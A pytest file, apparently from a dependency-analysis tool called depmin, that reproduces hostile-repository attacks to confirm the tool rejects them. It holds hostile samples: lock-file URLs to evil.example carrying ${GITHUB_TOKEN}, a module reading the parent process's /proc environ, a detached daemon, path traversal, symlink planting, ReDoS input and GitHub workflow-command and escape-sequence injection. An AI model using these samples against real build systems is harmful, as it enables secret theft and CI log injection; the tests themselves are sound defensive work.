"""Hostile repositories, round 2: one test per way in that a second adversarial review found
(issue 23), each reproducing the attack. depmin runs on pull requests, often as root: nothing in
the analysed repository may fake a verdict, read or write outside the root, reach the terminal as
a command, or hang depmin. Assertions are on exit codes, codes and places, and on files."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from depmin.commands import main

from ..helpers import FIXTURES, diagnostics, json_problems

SMALLSVC = FIXTURES / "smallsvc"
PYTHON = f"{sys.version_info[0]}.{sys.version_info[1]}"


def invoke(root: Path, *arguments: str, **environment: str):
    runner = CliRunner()
    return runner.invoke(main, [arguments[0], "--root", str(root), *arguments[1:]], env=environment or None)


def no_traceback(result) -> None:
    assert "Traceback" not in result.output and "internal error" not in result.output, result.output


def copy_smallsvc(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(SMALLSVC, root)
    (tmp_path / "outside").mkdir(exist_ok=True)
    return root


def bare_project(tmp_path: Path, files: dict[str, str]) -> Path:
    """A project without dependencies, locked by `uv lock` (offline: nothing to resolve)."""
    from uv import find_uv_bin

    root = tmp_path / "bare"
    root.mkdir()
    (root / "pyproject.toml").write_text(
        f'[project]\nname = "bare"\nversion = "0.1.0"\nrequires-python = ">={PYTHON}"\ndependencies = []\n'
    )
    for relative, text in files.items():
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_text(textwrap.dedent(text))
    subprocess.run(
        [find_uv_bin(), "lock", "--offline", "--quiet"],
        cwd=root,
        check=True,
        env={**os.environ, "UV_PYTHON_DOWNLOADS": "never"},
    )
    return root


# -- 1. verify verdicts cannot be faked ---------------------------------------------------------


def test_1_a_module_writing_fake_verdicts_to_every_descriptor_still_fails(tmp_path):
    root = bare_project(
        tmp_path,
        {
            "app/__init__.py": "",
            "app/broken.py": """
                import json, os
                line = json.dumps({"module": "app.broken", "ok": True}) + "\\n"
                for fd in range(3, 1024):
                    try:
                        os.write(fd, line.encode())
                    except OSError:
                        pass
                raise ImportError("broken on purpose")
            """,
        },
    )
    result = invoke(root, "verify", "--no-cache", "--python", PYTHON, "--json", "app/")
    no_traceback(result)
    assert result.exit_code == 1, result.output
    outcomes = {o["module"]: o["ok"] for o in json.loads(result.stdout)["modules"]}
    assert outcomes == {"app": True, "app.broken": False}


# -- 2. `..` in the build configuration -----------------------------------------------------------


@pytest.mark.parametrize(
    "table, key",
    [
        ('[tool.setuptools.package-dir]\n"" = "../outside"\n', "tool.setuptools.package-dir"),
        ('[tool.setuptools.package-dir]\npkg = "../outside/pkg"\n', "tool.setuptools.package-dir.pkg"),
        ('[tool.setuptools.packages.find]\nwhere = ["../outside"]\n', "tool.setuptools.packages.find.where"),
        (
            '[tool.hatch.build.targets.wheel]\npackages = ["../outside/pkg"]\n',
            "tool.hatch.build.targets.wheel.packages",
        ),
        ('[tool.hatch.build.targets.wheel.sources]\n"../outside" = ""\n', "tool.hatch.build.targets.wheel.sources"),
    ],
)
def test_2_build_configuration_that_leaves_the_root_is_an_error_at_its_key(tmp_path, table, key):
    root = copy_smallsvc(tmp_path)
    (tmp_path / "outside" / "pkg").mkdir()
    (tmp_path / "outside" / "pkg" / "__init__.py").write_text("import secrets_of_outside\n")
    pyproject = root / "pyproject.toml"
    pyproject.write_text(pyproject.read_text() + "\n" + table)
    result = invoke(root, "closure", "--no-cache", "--json", "svc/")
    no_traceback(result)
    assert result.exit_code == 2 and result.stderr == ""  # --json: the errors are the JSON
    [(place, severity, code, message)] = json_problems(result.stdout)
    line = int(place.split(":")[1])
    assert (place.split(":")[0], severity, code) == ("pyproject.toml", "error", "DM002")
    assert key in message and key.rsplit(".", 1)[-1] in pyproject.read_text().splitlines()[line - 1] + key
    assert "copy" not in json.loads(result.stdout)  # no answer, so no COPY line with ../ in it


# -- 3. special files read as configuration -----------------------------------------------------


@pytest.mark.parametrize("special", ["/dev/zero", "/dev/urandom", "fifo"])
def test_3_a_python_version_file_that_is_not_a_regular_file_is_an_error_not_a_hang(tmp_path, special):
    root = copy_smallsvc(tmp_path)
    if special == "fifo":
        os.mkfifo(root / ".python-version")
    else:
        (root / ".python-version").symlink_to(special)
    command = [sys.executable, "-m", "depmin", "closure", "--root", str(root), "--no-cache", "svc/"]
    completed = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert completed.returncode == 2, completed.stderr
    [(place, _, code, _)] = diagnostics(completed.stderr)
    assert (place, code) == (".python-version", "DM002")


def test_3_a_cache_mark_that_is_a_fifo_does_not_hang(tmp_path):
    root = copy_smallsvc(tmp_path)
    cache = tmp_path / "cache"
    cache.mkdir()
    os.mkfifo(cache / ".gitignore")
    command = [sys.executable, "-m", "depmin", "closure", "--root", str(root), "--cache-dir", str(cache), "svc/", "-v"]
    completed = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert completed.returncode == 0, completed.stderr
    assert "cache not used" in completed.stderr
    assert sorted(p.name for p in cache.iterdir()) == [".gitignore"]


# -- 4, 19, 20. values in uv.lock that would change a generated file -----------------------------


@pytest.mark.parametrize(
    "old, new",
    [
        (
            'source = { registry = "https://pypi.org/simple" }',
            'source = { registry = "https://${GITHUB_TOKEN}@evil.example/simple" }',
        ),
        (
            'source = { registry = "https://pypi.org/simple" }',
            'source = { url = "https://evil.example/${INDEX_SECRET}/x.whl" }',
        ),
        (
            'source = { registry = "https://pypi.org/simple" }',
            'source = { git = "https://evil.example/x?rev=$HOME#abc" }',
        ),
        ("size = 952055", "size = -5"),
        ("size = 952055", "size = 100000000000000000"),
    ],
)
def test_4_20_lock_values_that_expand_or_lie_are_errors_at_their_package(tmp_path, old, new):
    root = copy_smallsvc(tmp_path)
    lock = (root / "uv.lock").read_text()
    changed = lock.replace(old, new, 1)
    assert changed != lock
    (root / "uv.lock").write_text(changed)
    result = invoke(root, "closure", "--no-cache", "--target", "svc", "-o", "requirements/out.txt")
    no_traceback(result)
    assert result.exit_code == 2
    [(place, _, code, _)] = diagnostics(result.stderr)
    assert code == "DM003" and place.startswith("uv.lock:")
    assert changed.splitlines()[int(place.split(":")[1]) - 1] == "[[package]]"
    assert not (root / "requirements" / "out.txt").exists()


def test_19_index_credentials_in_the_lock_never_reach_the_requirements(tmp_path):
    root = copy_smallsvc(tmp_path)
    lock = (root / "uv.lock").read_text()
    start = lock.index('name = "pyyaml"')
    head, tail = lock[:start], lock[start:]
    tail = tail.replace(
        'source = { registry = "https://pypi.org/simple" }',
        'source = { registry = "https://user:s3cret@private.example/simple" }',
        1,
    )
    (root / "uv.lock").write_text(head + tail)
    result = invoke(root, "closure", "--no-cache", "--target", "svc", "-o", str(root / "out.txt"))
    assert result.exit_code == 0, result.output
    written = (root / "out.txt").read_text()
    assert "s3cret" not in written and "user:" not in written
    assert "--extra-index-url https://private.example/simple" in written or "https://private.example/simple" in written


def test_13_a_name_with_a_trailing_newline_is_not_a_name(tmp_path):
    from depmin.files.safety import is_distribution_name, is_hash, is_image_reference

    assert not is_distribution_name("pyyaml\n")
    assert not is_hash("sha256:abcd\n")
    assert not is_image_reference("python:3.12\n")
    root = copy_smallsvc(tmp_path)
    lock = (root / "uv.lock").read_text()
    (root / "uv.lock").write_text(lock.replace('name = "pyyaml"', 'name = "pyyaml\\n"', 1))
    result = invoke(root, "closure", "--no-cache", "svc/")
    assert result.exit_code == 2 and diagnostics(result.stderr)[0][2] == "DM003"


# -- 5, 12. outputs replace regular files inside the root only ----------------------------------


@pytest.mark.parametrize("target", ["/dev/null", "/proc/self/fd/1", "fifo"])
def test_5_an_output_that_is_a_symlink_or_a_special_file_is_never_replaced(tmp_path, target):
    root = copy_smallsvc(tmp_path)
    output = tmp_path / "out.txt"
    if target == "fifo":
        os.mkfifo(output)
    else:
        output.symlink_to(target)
    before = os.lstat(output)
    for arguments in (
        ["closure", "--target", "svc", "-o", str(output)],
        ["dockerfile", "--target", "svc", "-o", str(output)],
    ):
        result = invoke(root, *arguments[:1], "--no-cache", *arguments[1:])
        no_traceback(result)
        assert result.exit_code == 2, result.output
        assert diagnostics(result.stderr)[0][2] == "DM005"
        after = os.lstat(output)
        assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)


def test_5_dash_is_standard_output(tmp_path):
    root = copy_smallsvc(tmp_path)
    result = invoke(root, "closure", "--no-cache", "--target", "svc", "-o", "-")
    assert result.exit_code == 0, result.output
    assert "pyyaml==" in result.stdout and "wrote" not in result.output
    assert not (root / "-").exists()


def test_12_an_output_through_a_committed_symlinked_directory_stays_inside(tmp_path):
    root = copy_smallsvc(tmp_path)
    (root / "requirements").rename(tmp_path / "outside" / "requirements")
    (root / "requirements").symlink_to(tmp_path / "outside" / "requirements")
    (tmp_path / "outside" / "requirements" / "file").write_text("untouched\n")
    pyproject = root / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().split("[tool.depmin.targets.svc]")[0])  # no target names the link
    result = invoke(root, "closure", "--no-cache", "svc/", "-o", str(root / "requirements" / "file"))
    no_traceback(result)
    assert result.exit_code == 2 and diagnostics(result.stderr)[0][2] == "DM005"
    assert (tmp_path / "outside" / "requirements" / "file").read_text() == "untouched\n"


# -- 6, 15. what the imported code can reach during verify ----------------------------------------


def test_6_15_the_imported_code_sees_no_secret_no_repository_and_leaves_no_daemon(tmp_path):
    report = tmp_path / "seen.json"
    pidfile = tmp_path / "daemon.pid"
    root = bare_project(
        tmp_path,
        {
            "app/__init__.py": "",
            "app/spy.py": f"""
                import json, os
                ppid = os.getppid()
                seen = {{"cwd": os.getcwd(), "parent_cwd": os.readlink(f"/proc/{{ppid}}/cwd")}}
                with open(f"/proc/{{ppid}}/environ", "rb") as handle:
                    seen["parent_environ"] = handle.read().decode(errors="replace")
                seen["environ"] = dict(os.environ)
                open({str(report)!r}, "w").write(json.dumps(seen))
            """,
            "app/daemon.py": f"""
                import subprocess
                subprocess.Popen(["setsid", "sh", "-c", "sleep 600 & echo $! > {pidfile}; wait"])
            """,
        },
    )
    environment = {**os.environ, "DEPMIN_TEST_SECRET": "hunter2"}
    command = [sys.executable, "-m", "depmin", "verify", "--root", str(root), "--no-cache", "--python", PYTHON, "app/"]
    completed = subprocess.run(command, capture_output=True, text=True, env=environment, cwd=root, timeout=300)
    assert completed.returncode == 0, completed.stderr
    seen = json.loads(report.read_text())
    assert "hunter2" not in json.dumps(seen)
    assert str(root) not in seen["cwd"] and str(root) not in seen["parent_cwd"]
    pid = int(pidfile.read_text())
    stat = Path(f"/proc/{pid}/stat")
    assert not stat.exists() or stat.read_text().rsplit(")", 1)[1].split()[0] == "Z", "the daemon outlived verify"


# -- 8, 18. the cache ------------------------------------------------------------------------------


def test_8_entries_written_with_another_secret_are_never_read(tmp_path):
    root = copy_smallsvc(tmp_path)
    cache = tmp_path / "cache"
    first = invoke(root, "closure", "--cache-dir", str(cache), "--json", "svc/", DEPMIN_CACHE_DIR=str(tmp_path / "a"))
    assert first.exit_code == 0
    command = [sys.executable, "-m", "depmin", "closure", "--root", str(root), "--cache-dir", str(cache), "-v", "svc/"]
    other = subprocess.run(
        command, capture_output=True, text=True, env={**os.environ, "DEPMIN_CACHE_DIR": str(tmp_path / "b")}
    )
    assert other.returncode == 0
    assert re.search(r"scan cache .*: 0 hits, [1-9]\d* scanned", other.stderr), other.stderr


def test_8_planted_symlinks_in_the_cache_are_not_written_through(tmp_path):
    root = copy_smallsvc(tmp_path)
    cache = tmp_path / "cache"
    invoke(root, "closure", "--cache-dir", str(cache), "svc/")
    outside = tmp_path / "outside"
    victim = outside / "victim"
    victim.write_text("untouched\n")
    for file in cache.iterdir():  # depmin's mark stays; every file of its own becomes a planted link
        if file.is_dir() and not file.is_symlink():
            shutil.rmtree(file)
            file.symlink_to(outside)  # a sub-directory, as the cache's lock entries had
        elif file.name != ".gitignore":
            file.unlink()
            file.symlink_to(victim)
    for shard in (f"{number:02x}" for number in range(256)):  # sub-directories, as a cache may have had
        if not (cache / shard).exists():
            (cache / shard).symlink_to(outside)
    result = invoke(root, "closure", "--cache-dir", str(cache), "svc/")
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "untouched\n"
    assert sorted(p.name for p in outside.iterdir()) == ["victim"]


def test_18_an_empty_cache_directory_left_by_a_failed_first_run_is_adopted(tmp_path):
    root = copy_smallsvc(tmp_path)
    cache = tmp_path / "cache"
    cache.mkdir()
    command = [sys.executable, "-m", "depmin", "closure", "--root", str(root), "--cache-dir", str(cache), "-v", "svc/"]
    completed = subprocess.run(command, capture_output=True, text=True)
    assert completed.returncode == 0 and "cache not used" not in completed.stderr
    assert (cache / ".gitignore").read_text().startswith("# created by depmin")
    (cache / ".gitignore").unlink()
    (cache / "notes.txt").write_text("someone else's\n")
    again = subprocess.run(command, capture_output=True, text=True)
    assert again.returncode == 0 and "cache not used" in again.stderr


# -- 9, 14. nothing from the repository reaches a terminal as a workflow command or an escape ---


@pytest.mark.parametrize("key", ["forbid", "hidden-imports", "smoke"])
def test_9_a_line_break_in_a_configured_value_is_an_error(tmp_path, key):
    root = copy_smallsvc(tmp_path)
    value = '"x\\n::error file=a.py::pwned"'
    pyproject = root / "pyproject.toml"
    line = f"{key} = [{value}]" if key != "smoke" else f"{key} = {value}"
    text = pyproject.read_text().replace('forbid = ["six"]\n', "")
    pyproject.write_text(text.replace("[tool.depmin.targets.svc]", f"[tool.depmin.targets.svc]\n{line}"))
    result = invoke(root, "check", "--no-cache")
    assert result.exit_code == 2
    assert not any(line.lstrip().startswith("::") for line in result.output.splitlines())
    [(place, _, code, message)] = diagnostics(result.stderr)
    assert code == "DM002" and place.startswith("pyproject.toml:") and f"tool.depmin.targets.svc.{key}" in message


def test_9_14_code_strings_and_committed_bytes_reach_no_terminal_as_commands(tmp_path):
    root = copy_smallsvc(tmp_path)
    (root / "svc" / "loader.py").write_text(
        'import importlib\nimportlib.import_module("x\\n::error file=svc/main.py::pwned ##[error]y")\n'
    )
    committed = root / "requirements" / "svc.txt"
    committed.write_text("##[error]committed\n::warning::committed\n\x1b]0;title\x07\n")
    for arguments in (
        ["closure", "svc/"],
        ["closure", "--json", "svc/"],
        ["check"],
        ["check", "--json"],
        ["check", "--format", "sarif"],
    ):
        result = invoke(root, *arguments[:1], "--no-cache", *arguments[1:])
        no_traceback(result)
        for line in result.output.splitlines():
            assert not line.lstrip().startswith("::"), (arguments, line)
            assert "##[" not in line, (arguments, line)
            assert "\x1b" not in line and "\x07" not in line, (arguments, line)
        if "--json" in arguments or "sarif" in arguments:
            json.loads(result.stdout)


def test_9_github_annotations_stay_one_line_each(tmp_path):
    root = copy_smallsvc(tmp_path)
    (root / "svc" / "broken.py").write_text("import left_pad_xyz  # \n")
    result = invoke(root, "closure", "--no-cache", "--format", "github", "svc/")
    lines = result.stdout.splitlines()
    assert lines and all(line.startswith(("::error ", "::warning ")) for line in lines)


# -- 10. the configuration line finder is linear ---------------------------------------------------


def test_10_a_hostile_pyproject_line_is_read_in_linear_time(tmp_path):
    root = copy_smallsvc(tmp_path)
    pyproject = root / "pyproject.toml"
    hostile = '[tool.depmin]\nunknown-key = """\n' + "[" * 4000 + " " * 4000 + '\n"""\n'  # valid TOML
    pyproject.write_text(pyproject.read_text() + hostile)
    command = [sys.executable, "-m", "depmin", "closure", "--root", str(root), "--no-cache", "svc/"]
    # Before the fix this took over ten minutes (cubic backtracking); now milliseconds.
    completed = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert completed.returncode == 2
    [(place, _, code, _)] = diagnostics(completed.stderr)
    assert code == "DM002" and place.startswith("pyproject.toml:")


# -- 11. a local wheel is installed from the repository, never from an index ----------------------


def test_11_a_wheel_locked_from_the_repository_is_written_by_its_path(tmp_path):
    root = copy_smallsvc(tmp_path)
    (root / "wheels").mkdir()
    shutil.copy(FIXTURES / "wheels" / "attrs-25.3.0-py3-none-any.whl", root / "wheels")
    lock = (root / "uv.lock").read_text()
    start = lock.index('name = "attrs"')
    entry_end = lock.index("[[package]]", start)
    entry = (
        'name = "attrs"\nversion = "25.3.0"\nsource = { path = "wheels/attrs-25.3.0-py3-none-any.whl" }\n'
        'wheels = [\n    { filename = "attrs-25.3.0-py3-none-any.whl", hash = "sha256:' + "0" * 64 + '" },\n]\n\n'
    )
    (root / "uv.lock").write_text(lock[:start] + entry + lock[entry_end:])
    result = invoke(root, "closure", "--no-cache", "--target", "svc", "-o", str(root / "out.txt"))
    assert result.exit_code == 0, result.output
    written = (root / "out.txt").read_text()
    assert "./wheels/attrs-25.3.0-py3-none-any.whl" in written.splitlines()
    assert "attrs==25.3.0" not in written
    outside = lock[:start] + entry.replace('path = "wheels/', 'path = "../outside/') + lock[entry_end:]
    (root / "uv.lock").write_text(outside)
    refused = invoke(root, "closure", "--no-cache", "--target", "svc")
    assert refused.exit_code == 2 and diagnostics(refused.stderr)[0][2] == "DM004"


# -- 16. a very large file: linear, bounded, and the real cause -------------------------------------


def test_16_a_huge_literal_list_is_read_in_bounded_memory(tmp_path):
    root = copy_smallsvc(tmp_path)
    (root / "svc" / "table.py").write_text(
        "import yaml\nTABLE = [" + ", ".join(str(i % 997) for i in range(1_000_000)) + "]\n"
    )
    script = textwrap.dedent(
        f"""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_AS, (1_500_000_000, 1_500_000_000))
        sys.argv = ["depmin", "closure", "--root", {str(root)!r}, "--no-cache", "--json", "svc/"]
        from depmin.commands import main
        main()
        """
    )
    completed = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=600)
    assert completed.returncode == 0, completed.stderr
    closure = json.loads(completed.stdout)
    assert "svc.table" in closure["modules"]
    [warning] = [w for w in closure["warnings"] if w["file"] == "svc/table.py"]
    assert warning["code"] == "DM202" and "deeply nested" not in warning["message"]


# -- 17. what a killed run left behind ----------------------------------------------------------


def test_17_stale_temporary_files_are_removed_by_the_next_write(tmp_path):
    root = copy_smallsvc(tmp_path)
    stale = root / "requirements" / ".svc.txt.abc123.tmp"
    stale.write_text("half written")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    result = invoke(root, "sync", "--no-cache")
    assert result.exit_code == 0, result.output
    assert not stale.exists()


# -- byte for byte, whatever the hash seed ---------------------------------------------------------


def test_the_answer_does_not_depend_on_the_hash_seed():
    outputs = set()
    for seed in ("1", "2", "3"):
        command = [
            sys.executable,
            "-m",
            "depmin",
            "closure",
            "--root",
            str(FIXTURES / "packagedir"),
            "--no-cache",
            "--json",
            "ai/",
        ]
        completed = subprocess.run(command, capture_output=True, env={**os.environ, "PYTHONHASHSEED": seed})
        assert completed.returncode == 0
        outputs.add(completed.stdout)
    assert len(outputs) == 1
